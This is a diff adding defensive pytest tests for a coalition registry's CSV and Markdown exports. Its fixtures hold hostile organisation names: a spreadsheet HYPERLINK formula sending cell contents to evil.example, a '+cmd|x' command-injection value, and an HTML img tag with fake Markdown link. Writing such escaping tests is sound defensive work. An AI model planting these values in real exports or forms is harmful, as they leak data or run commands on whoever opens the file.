@@ -14,6 +14,7 @@ import pytest
 
 import coalition_registry as cr
 
+from coalition_registry import render
 from coalition_registry.cli import run
 from coalition_registry.exports import COLUMNS
 from conftest import SHIPPED
@@ -449,3 +450,57 @@ class TestPrivateFields:
             data.rows[0]["name"],
             data.rows[0]["name_as_printed"],
         )
+
+
+class TestHostileNames:
+    """Names come from contributors; the outputs are opened elsewhere."""
+
+    @pytest.fixture(name="data")
+    def _data(self) -> cr.Export:
+        hostile = cr.Organisation(
+            id="org-1",
+            name='=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+            hq_country="GB",
+            sources=SOURCE,
+        )
+        markup = cr.Organisation(
+            id="org-2",
+            name='<img src="https://evil.example/t.png"> [Donate](x) *b*',
+            sources=SOURCE,
+        )
+        return cr.export(
+            cr.Registry(
+                [
+                    letter(),
+                    hostile,
+                    markup,
+                    signs(hostile, "organisation", name_as_printed="+cmd|x"),
+                    signs(markup, "organisation"),
+                ]
+            )
+        )
+
+    def test_csv_cells_are_never_formulas(self, data: cr.Export) -> None:
+        out = io.StringIO()
+        render.export_csv(data, out)
+        rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+        by_id = {row["signatory"]: row for row in rows}
+        assert "'=HYPERLINK(" == by_id["org-1"]["name"][:12]
+        assert "'+cmd|x" == by_id["org-1"]["name_as_printed"]
+        assert all(
+            not value.startswith(("=", "+", "-", "@"))
+            for row in rows
+            for value in row.values()
+        )
+        # Nothing else is touched.
+        assert by_id["org-2"]["name"].startswith("<img src=")
+
+    def test_markdown_shows_markup_as_text(self, data: cr.Export) -> None:
+        out = io.StringIO()
+        render.export_markdown(data, out)
+        row = next(x for x in out.getvalue().splitlines() if "img" in x)
+        assert (
+            r'\<img src="https://evil.example/t.png"> \[Donate\](x) \*b\*'
+            in row
+        )
+        assert "<img" not in row.replace(r"\<img", "")
